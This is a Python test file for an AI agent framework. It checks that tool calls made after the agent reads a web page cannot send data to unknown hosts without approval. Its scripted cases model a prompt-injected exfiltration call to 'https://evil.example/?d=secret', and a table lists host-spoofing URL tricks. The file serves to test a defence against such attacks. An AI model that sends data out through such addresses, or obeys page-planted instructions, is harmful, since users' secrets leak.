"""A tool may send only known data to known places without an approval."""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import replace

import pytest

from arvis.domain.messages import MessageStatus
from arvis.domain.outgoing import Judge, Known, Outgoing, Reach
from arvis.store.open import Database
from tests.flows.app_harness import HELPER, AppHarness, open_app
from tests.flows.scripted import asking, call


@pytest.fixture
async def app(database: Database) -> AsyncIterator[AppHarness]:
    async with open_app(database, agents=[replace(HELPER, tools=("look", "srv.dig"), allow_users=("ann",))]) as app:
        yield app


async def reads_and_sends(app: AppHarness, question: str, url: str) -> bool:
    """Return true if a call after another tool's output is made without an approval."""
    app.provider.script += [
        asking(call(1, "look", words="page")), asking(call(2, "srv__dig", words=url)), "Done."
    ]  # fmt: skip
    said = await app.say(question, is_direct=True)
    timeline = await app.until_status(said.message_id, MessageStatus.ANSWERED, MessageStatus.WAITING)
    return timeline.status is MessageStatus.ANSWERED


async def test_a_page_cannot_send_what_the_agent_knows_to_a_place_of_its_own(app: AppHarness) -> None:
    assert not await reads_and_sends(app, "Read the page", "https://evil.example/?d=secret")
    assert app.tools.dig.calls == []


async def test_what_the_asker_named_is_not_asked_about(app: AppHarness) -> None:
    assert await reads_and_sends(app, "Read the page, then https://good.example/a?b=1", "https://good.example/a?b=1")


async def test_data_for_a_host_of_the_asker_is_asked_about(app: AppHarness) -> None:
    assert not await reads_and_sends(app, "Read the page, then https://good.example/a", "https://good.example/b?x=1")
    [question] = (await app.insights.waits(open_only=True, limit=9, cursor=None)).items
    assert "The address contains “b”, which your message does not contain." in question.prompt
    assert app.tools.dig.calls == []


async def test_words_of_a_page_do_not_leave(app: AppHarness) -> None:
    assert not await reads_and_sends(app, "Read the page", "hunter2 passphrase")


async def test_words_of_the_asker_leave(app: AppHarness) -> None:
    assert await reads_and_sends(app, "Read the page and look for tides in Kiel", "tides kiel latest")


async def test_a_rule_of_the_configuration_is_heeded(app: AppHarness) -> None:
    app.ruled.add("srv.dig")
    assert await reads_and_sends(app, "Read the page", "https://evil.example/")


async def test_in_a_turn_of_the_askers_own_words_nothing_is_asked(app: AppHarness) -> None:
    app.provider.script += [asking(call(1, "srv__dig", words="https://any.example/")), "Done."]
    assert (await app.ask("Look it up", is_direct=True)).reply == "Done."


WORDS = "Look at good.example and https://other.example:8080/x, thanks."


@pytest.mark.parametrize(
    ("address", "strange"),
    [
        ("https://good.example/path", False),
        ("HTTPS://GOOD.EXAMPLE./path", False),
        ("http://other.example/", False),
        ("https://known.example/x", False),
        ("https://evil.example/good.example", True),
        ("https://good.example.evil.example/", True),
        ("https://notgood.example/", True),
        ("https://x.good.example/", True),
        ("https://good.example@evil.example/", True),
        ("https://good.example\\@evil.example/", True),
        ("https:/\\evil.example/", True),
        ("see https://good.example/ and ftp://evil.example/x", True),
        ("no address at all", False),
        ("http://[::1", True),
        ("https://good.example/?next=https://x@evil.example", False),
    ],
)
def test_hosts_are_read_as_they_are_dialled(address: str, strange: bool) -> None:
    judge = Judge(Known(WORDS, hosts={"known.example"}))
    assert (judge.objection(Outgoing({"deep": [{"url": address}]}, Reach.LOCAL, {})) is not None) is strange
